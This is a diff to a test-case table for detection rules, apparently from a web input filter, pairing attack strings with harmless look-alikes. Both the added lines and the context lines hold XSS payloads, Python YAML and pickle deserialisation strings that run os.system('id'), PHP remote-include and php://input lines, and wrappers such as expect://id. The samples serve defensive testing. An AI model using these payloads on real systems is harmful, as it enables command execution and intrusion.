@@ -79,6 +79,10 @@ export const ruleCases: Readonly<Record<string, { attacks: readonly string[]; in
   "xss/script-call": { attacks: ["x = window.open('/a')<b>", '"eval(x)'], innocent: ["What does alert(1) do?"] },
   "xss/script-entity": { attacks: ["<br size=&{prompt(4)}>"], innocent: ["R&D {team}"] },
   "xss/spelled-call": { attacks: ["['al'+'ert'](4)", "(![]+[])[+[]]"], innocent: ["'a'+'b' is 'ab'"] },
+  "xss/spelled-letters": {
+    attacks: ["&#112;&#114;&#111;&#109;&#112;", "%70%72%6f%6d%70%74", "\\x70\\x72\\x6f\\x6d\\x70"],
+    innocent: ["&#8220;caf&#233;&#8221;", "100%25 of 50%25", "\\u00e9t\\u00e9"],
+  },
   "xss/page-access": { attacks: ["x='y';z=document .  cookie"], innocent: ["document the cookie policy"] },
   "xss/utf-7": { attacks: ["+ADw-b+AD4-"], innocent: ["+A grade - good"] },
   "xss/high-bit-tag": { attacks: ["\u00bcscript\u00beprompt(4)<"], innocent: ["\u00bc cup of milk"] },
@@ -140,6 +144,14 @@ export const ruleCases: Readonly<Record<string, { attacks: readonly string[]; in
     innocent: ["How does JNDI work?"],
   },
   "code/serialised-java": { attacks: ["rO0ABXNyABFq"], innocent: ["row 0 ABX"] },
+  "code/serialised-object": {
+    attacks: ["!!python/object/apply:os.system ['id']", "cos\nsystem\n(S'id'\ntR."],
+    innocent: ["wow!! python is fun", "cos\nand sin"],
+  },
+  "code/php-include": {
+    attacks: ["include('http://203.0.113.9/a.txt')", 'require_once "php://input"'],
+    innocent: ["const http = require('http')", "include('header.php') in PHP"],
+  },
   "code/serialised-php": { attacks: ['O:4:"User":1:{s:1:"a";i:1;}'], innocent: ["a ratio of 4:1:{a}"] },
   "code/php-wrapper": { attacks: ["php://filter/read=a/resource=b", "expect://id"], innocent: ["PHP: a language", "I expect: nothing"] },
   "code/php-function": { attacks: ["x; unserialize(y)", "base64_decode('aWQ=')"], innocent: ["What does unserialize() do?"] },
